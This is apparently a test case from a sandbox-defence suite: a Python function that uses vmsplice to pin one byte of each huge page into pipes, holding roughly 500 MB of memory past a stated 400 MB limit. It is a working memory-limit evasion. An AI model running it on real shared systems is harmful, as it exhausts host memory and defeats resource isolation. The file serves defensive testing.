# ruff: noqa
"""Pipes hold memory that is mapped no more (vmsplice): one byte of a huge page holds all of it.

defence: seccomp: pages that a pipe holds
control: naive
wins: trophy
seconds: 30
"""

import ctypes, mmap, os, time

VMSPLICE = 278 if os.uname().machine == "x86_64" else 75
PAGE, SIZE = 2 << 20, 64 << 20


class Part(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def trophy():
    libc, pipes, pages = ctypes.CDLL(None, use_errno=True), [], 0
    while pages * PAGE < 500e6:
        area = mmap.mmap(-1, SIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        area.madvise(mmap.MADV_HUGEPAGE)
        start = ctypes.addressof(ctypes.c_char.from_buffer(area))
        for at in range(-start % PAGE, SIZE - PAGE, PAGE):
            if pages % 16 == 0:
                pipes.append(os.pipe())
            area[at] = 1
            part = Part(start + at, 1)
            if libc.syscall(VMSPLICE, pipes[-1][1], ctypes.byref(part), 1, 0) != 1:
                return None
            pages += 1
        area.madvise(mmap.MADV_DONTNEED)
    time.sleep(0.7)
    return f"{pages * PAGE / 1e6:.0f} MB in {len(pipes)} pipes, the limit is 400 MB"
